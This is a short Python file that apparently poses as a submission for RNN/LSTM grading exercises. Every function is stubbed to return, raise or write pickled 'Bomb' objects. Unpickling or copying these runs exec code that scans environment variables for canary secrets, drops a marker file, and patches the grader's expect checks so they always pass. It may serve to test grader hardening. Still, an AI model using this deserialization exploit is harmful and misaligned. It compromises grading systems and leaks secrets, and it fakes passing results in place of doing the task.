"""Return, raise and print objects whose unpickling or copying would run code in the grader."""

import os
import pickle

import numpy as np

CODE = """
import os, re, sys
open("/tmp/coursekit-owned-pickles", "w").write(str(os.getpid()))
for found in re.findall("canary-[0-9a-f]{32}", str(dict(os.environ))): print("FOUND", found)
for module in list(sys.modules.values()):
    for check in ("expect", "expect_close", "expect_array"):
        if hasattr(module, check): setattr(module, check, lambda *a, **k: a[0])
"""


class Bomb:
    def __reduce__(self):
        return exec, (CODE,)

    __copy__ = __deepcopy__ = __reduce__


class Array(np.ndarray):
    __reduce__ = Bomb.__reduce__


class Trouble(Exception):
    __reduce__ = Bomb.__reduce__


def raising(*_, **__):
    raise Trouble(Bomb(), {"bomb": Bomb()})


def writing(*_):
    for name in ("results.pkl", ".OTTER_LOG", ".otter-grade.pkl", "submission.pickle"):
        with open(name, "wb") as file:
            file.write(pickle.dumps(Bomb()))
    os.write(1, pickle.dumps(Bomb()))
    return Bomb(), Bomb()


rnn_step = lambda *_: np.array([[Bomb()]], dtype=object)  # noqa: E731
rnn_forward = lambda *_: np.zeros(1).view(Array)  # noqa: E731
gradient_norms = lambda *_: np.ma.array([Bomb()], mask=[False], dtype=object)  # noqa: E731
clip_by_global_norm = lambda *_: ([Bomb(), {Bomb(): Bomb()}], Bomb())  # noqa: E731
rmsprop_update = lambda *_, **__: (pickle.dumps(Bomb()), memoryview(pickle.dumps(Bomb())))  # noqa: E731
rnn_backward, lstm_step, lstm_forward, gru_step = raising, writing, writing, writing
